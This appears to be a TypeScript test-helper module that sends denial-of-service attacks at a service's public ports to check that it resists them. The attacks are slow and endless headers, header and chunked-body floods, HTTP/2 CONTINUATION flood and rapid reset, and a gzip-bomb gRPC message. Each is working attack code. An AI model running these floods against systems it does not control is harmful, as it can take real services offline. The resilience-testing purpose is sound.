import { once } from 'node:events';
import { connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';

/** Attacks on the two public ports (`host:port`). Each ends when the service ends it or all is sent. */

export function openTo(address: string): Socket {
  const [host = '', port = ''] = address.split(':');
  const socket = connect(Number(port), host);
  socket.on('error', () => {}).resume();
  return socket;
}

const heard = (socket: Socket, event: 'close' | 'drain'): Promise<void> =>
  new Promise((resolve) => socket.once(event, () => resolve()));

/** Repeats the same bytes up to `times` while the service reads them. Returns how often they were taken. */
async function pour(socket: Socket, bytes: Buffer, times: number): Promise<number> {
  const closed = heard(socket, 'close');
  let taken = 0;
  for (; taken < times && socket.writable; taken += 1) {
    if (!socket.write(bytes)) await Promise.race([heard(socket, 'drain'), closed]);
    if (socket.destroyed) break;
  }
  return taken;
}

/** An open request with endless headers. */
export function slowHeaders(address: string): Socket {
  const socket = openTo(address);
  socket.write('GET /health HTTP/1.1\r\nHost: a\r\nX-Slow: ');
  return socket;
}

export async function manyHeaders(address: string, count: number): Promise<void> {
  const socket = openTo(address);
  const closed = heard(socket, 'close');
  socket.write('GET /health HTTP/1.1\r\nHost: a\r\n');
  await pour(socket, Buffer.from('X: y\r\n'.repeat(1_000)), count / 1_000);
  socket.end('\r\n');
  await closed;
}

/**
 * A chunked body of `bytes` bytes. `head`: the request line and the other headers. Returns how many bytes of it were
 * taken.
 */
export async function hugeBody(address: string, head: string, bytes: number): Promise<number> {
  const socket = openTo(address);
  const closed = heard(socket, 'close');
  socket.write(`${head}Transfer-Encoding: chunked\r\n\r\n`);
  const size = 0x10000;
  const taken = await pour(socket, Buffer.from(`${size.toString(16)}\r\n${'x'.repeat(size)}\r\n`), bytes / size);
  socket.destroy();
  await closed;
  return taken * size;
}

/** Frames of HTTP/2 (RFC 9113, section 4.1). */
function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** Endless headers of a call; true: the service closed the connection. */
export async function continuationFlood(address: string): Promise<boolean> {
  const socket = openTo(address);
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  socket.write(frame(4, 0, 0, Buffer.alloc(0)));
  // A literal without indexing with a name and a value of 100 bytes, repeated.
  const name = Buffer.alloc(100, 'a');
  const value = Buffer.alloc(100, 'b');
  const field = Buffer.concat([Buffer.from([0, 100]), name, Buffer.from([100]), value]);
  const fields = Buffer.concat(Array.from({ length: 80 }, () => field));
  socket.write(frame(1, 0, 1, fields));
  const closed = heard(socket, 'close').then(() => true);
  await pour(socket, frame(9, 0, 1, fields), 2_000);
  const ended = await Promise.race([closed, new Promise<boolean>((resolve) => setTimeout(resolve, 5_000, false))]);
  socket.destroy();
  return ended;
}

/** Calls that are cancelled at once. */
export async function rapidReset(address: string, count: number): Promise<void> {
  const session = connectHttp2(`http://${address}`);
  session.on('error', () => {});
  for (let at = 0; at < count && !session.destroyed; at += 1) {
    const stream = session.request({
      ':method': 'POST',
      ':path': '/svc.v1.HealthService/GetHealth',
      'content-type': 'application/grpc',
      te: 'trailers',
    });
    stream.on('error', () => {});
    stream.close(8);
    if (at % 1_000 === 999) await new Promise(setImmediate);
  }
  await new Promise((resolve) => setTimeout(resolve, 200));
  session.destroy();
}

/** Sends a message that unpacks to far more than its size over gRPC, and returns the grpc-status. */
export async function packedMessage(address: string, path: string, packed: Buffer): Promise<string> {
  const session = connectHttp2(`http://${address}`);
  session.on('error', () => {});
  try {
    const stream = session.request({
      ':method': 'POST',
      ':path': path,
      'content-type': 'application/grpc',
      'grpc-encoding': 'gzip',
      te: 'trailers',
    });
    stream.on('error', () => {});
    const head = Buffer.alloc(5);
    head[0] = 1;
    head.writeUInt32BE(packed.length, 1);
    stream.end(Buffer.concat([head, packed]));
    const [found] = await once(stream, 'response');
    return String(found['grpc-status']);
  } finally {
    session.destroy();
  }
}
